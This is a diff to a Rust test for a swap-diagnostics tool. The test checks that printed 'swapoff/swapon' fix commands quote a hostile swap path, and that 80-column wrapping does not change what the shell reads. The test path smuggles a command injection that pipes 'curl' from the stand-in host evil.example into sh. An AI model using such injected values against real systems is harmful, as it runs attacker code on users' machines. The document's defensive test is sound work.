@@ -363,23 +363,12 @@ fn unreadable_zram_leaves_its_cost_unknown() {
 }
 
 /// A swap path holding shell syntax (tests/fixtures/hostile-paths): the printed fix quotes it as
-/// one word, in text and in JSON.
+/// one word, in text and in JSON; at 80 columns the text breaks the command only where the shell
+/// reads on (never inside the quoted path), so the lines copied from the report are the same
+/// command to the shell as the one in JSON.
 #[test]
 fn fix_commands_quote_hostile_swap_paths() {
     let path = "/var/swap;curl${IFS}evil.example|sh;# $(id)`id`'q\"";
-    let quoted = shlex::try_quote(path).unwrap().into_owned();
-    let text = once_text("hostile-paths");
-    // The text wraps the fix over lines; read it back as one run of words.
-    let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
-    let flat_quoted = quoted.split_whitespace().collect::<Vec<_>>().join(" ");
-    assert!(
-        flat.contains(&format!(
-            "sudo swapoff {flat_quoted} && sudo swapon -p 1 {flat_quoted}"
-        )),
-        "{text}"
-    );
-    assert!(!flat.contains("swapoff /var/swap;"), "{text}");
-
     let json = once_json("hostile-paths");
     let fix = json["diagnostics"]
         .as_array()
@@ -401,6 +390,24 @@ fn fix_commands_quote_hostile_swap_paths() {
         words.iter().all(|w| w == path || !w.contains("evil")),
         "{words:?}"
     );
+
+    let text = once_text("hostile-paths");
+    let lines: Vec<String> = text
+        .lines()
+        .skip_while(|l| !l.starts_with("        fix: "))
+        .take_while(|l| !l.starts_with("        why: "))
+        .map(str::to_string)
+        .collect();
+    assert!(lines.len() > 2, "{text}");
+    for l in &lines {
+        assert!(l.chars().count() <= 80, "wider than 80 columns: {l:?}");
+    }
+    let copied = common::copied_priority_command(&lines, 13);
+    assert!(copied.contains('\n'), "the command fits one line: {copied}");
+    let shell = common::shell_words(cmd);
+    assert_eq!(common::shell_words(&copied), shell, "copied:\n{copied}");
+    assert_eq!(shell.matches(&format!("[{path}]\n")).count(), 2, "{shell}");
+    assert!(!text.contains("swapoff /var/swap;"), "{text}");
 }
 
 /// An untrusted tree (a copy of linux-6.18-idle) with `edit` applied: `--once` and `--once --json`
